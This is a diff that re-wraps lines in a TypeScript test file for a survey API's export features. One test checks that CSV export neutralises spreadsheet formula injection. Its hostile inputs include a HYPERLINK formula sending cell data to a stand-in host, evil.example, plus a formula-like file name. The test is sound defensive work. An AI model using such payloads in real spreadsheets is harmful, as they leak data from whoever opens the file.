@@ -37,11 +37,14 @@ afterAll(() => api.close());
 async function respond(comment: string, score: number | null, file?: { name: string; bytes: Uint8Array; type: string }): Promise<string> {
   const sid = (await api.call("POST", `${base()}/sessions/`, { key: null, body: {} })).json.session_id;
   expect((await api.call("PUT", `${base()}/sessions/${sid}/answers/${link.questions[0].uuid}/`, { key: null, body: { value: comment } })).status).toBe(200);
-  if (score !== null) expect((await api.call("PUT", `${base()}/sessions/${sid}/answers/${link.questions[1].uuid}/`, { key: null, body: { value: score } })).status).toBe(200);
+  if (score !== null)
+    expect((await api.call("PUT", `${base()}/sessions/${sid}/answers/${link.questions[1].uuid}/`, { key: null, body: { value: score } })).status).toBe(200);
   if (file) {
     const form = new FormData();
     form.append("file", new Blob([file.bytes as Uint8Array<ArrayBuffer>], { type: file.type }), file.name);
-    const up = await api.app.handle(new Request(`http://localhost${base()}/sessions/${sid}/answers/${link.questions[2].uuid}/file/`, { method: "POST", body: form }));
+    const up = await api.app.handle(
+      new Request(`http://localhost${base()}/sessions/${sid}/answers/${link.questions[2].uuid}/file/`, { method: "POST", body: form }),
+    );
     expect([file.name, up.status]).toEqual([file.name, 200]);
   }
   return sid;
@@ -50,10 +53,13 @@ async function respond(comment: string, score: number | null, file?: { name: str
 test("CSV export neutralises formula cells, file names included; numbers stay numbers", async () => {
   const hostile = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "@SUM(A1:A9)", "+1+1", "-2+3", "\t=1+1", "\r=1+1", "＝1+1"];
   const sids: string[] = [];
-  for (const [i, text] of hostile.entries()) sids.push(await respond(text, i === 0 ? -3 : null, i === 0 ? { name: "=1+2.png", bytes: PNG, type: "image/png" } : undefined));
+  for (const [i, text] of hostile.entries())
+    sids.push(await respond(text, i === 0 ? -3 : null, i === 0 ? { name: "=1+2.png", bytes: PNG, type: "image/png" } : undefined));
   sids.push(await respond("plain words", 7));
 
-  const res = await api.app.handle(new Request(`http://localhost/api/v1/links/${link.uuid}/responses/export/?format=csv`, { headers: { authorization: `Bearer ${api.ws.api_key}` } }));
+  const res = await api.app.handle(
+    new Request(`http://localhost/api/v1/links/${link.uuid}/responses/export/?format=csv`, { headers: { authorization: `Bearer ${api.ws.api_key}` } }),
+  );
   expect(res.status).toBe(200);
   const rows = parse(await res.text(), { relax_column_count: false }) as string[][];
   const [header, ...body] = rows;
@@ -76,7 +82,7 @@ test("CSV export neutralises formula cells, file names included; numbers stay nu
 });
 
 test("file downloads carry any stored file name via filename*, with an ASCII fallback", async () => {
-  const names = ["文件.pdf", "Report — final.pdf", "🎉 party.png", 'back\\slash; semi, comma.pdf', "=1+2.png"];
+  const names = ["文件.pdf", "Report — final.pdf", "🎉 party.png", "back\\slash; semi, comma.pdf", "=1+2.png"];
   for (const name of names) {
     const isPng = name.endsWith(".png");
     const sid = await respond("with a file", null, { name, bytes: isPng ? PNG : PDF, type: isPng ? "image/png" : "application/pdf" });
@@ -96,9 +102,17 @@ test("file downloads carry any stored file name via filename*, with an ASCII fal
 });
 
 test("the workspace-wide export covers every link (a link_uuid column, every field_key) and takes link= and the filters", async () => {
-  const other = (await api.call("POST", "/api/v1/links/", { body: { name: "Second link", questions: [{ prompt: "Mood", type: "text", field_key: "mood" }] } })).json;
+  const other = (await api.call("POST", "/api/v1/links/", { body: { name: "Second link", questions: [{ prompt: "Mood", type: "text", field_key: "mood" }] } }))
+    .json;
   const sid = (await api.call("POST", `/api/v1/intake/${api.ws.workspace_slug}/${other.slug}/sessions/`, { key: null, body: {} })).json.session_id;
-  expect((await api.call("PUT", `/api/v1/intake/${api.ws.workspace_slug}/${other.slug}/sessions/${sid}/answers/${other.questions[0].uuid}/`, { key: null, body: { value: "calm" } })).status).toBe(200);
+  expect(
+    (
+      await api.call("PUT", `/api/v1/intake/${api.ws.workspace_slug}/${other.slug}/sessions/${sid}/answers/${other.questions[0].uuid}/`, {
+        key: null,
+        body: { value: "calm" },
+      })
+    ).status,
+  ).toBe(200);
   await api.call("POST", `/api/v1/intake/${api.ws.workspace_slug}/${other.slug}/sessions/${sid}/submit/`, { key: null, body: {} });
   const mine = await respond("from the first link", 4);
 
@@ -113,10 +127,18 @@ test("the workspace-wide export covers every link (a link_uuid column, every fie
   expect(bySession.get(mine)).toMatchObject({ link_uuid: link.uuid, [link.questions[0].field_key]: "from the first link" });
 
   const onlyOther = await api.call("GET", `/api/v1/responses/export/?format=jsonl&link=${other.uuid}`);
-  const lines = onlyOther.text.trim().split("\n").map((l) => JSON.parse(l));
+  const lines = onlyOther.text
+    .trim()
+    .split("\n")
+    .map((l) => JSON.parse(l));
   expect(onlyOther.headers.get("content-type")).toContain("application/x-ndjson");
   expect(lines.map((r) => r.session_id)).toEqual([sid]);
   const completed = await api.call("GET", "/api/v1/responses/export/?format=jsonl&status=completed");
-  expect(completed.text.trim().split("\n").map((l) => JSON.parse(l).session_id)).toEqual([sid]);
+  expect(
+    completed.text
+      .trim()
+      .split("\n")
+      .map((l) => JSON.parse(l).session_id),
+  ).toEqual([sid]);
   expect((await api.call("GET", "/api/v1/responses/export/?link=not-a-uuid")).status).toBe(400);
 });
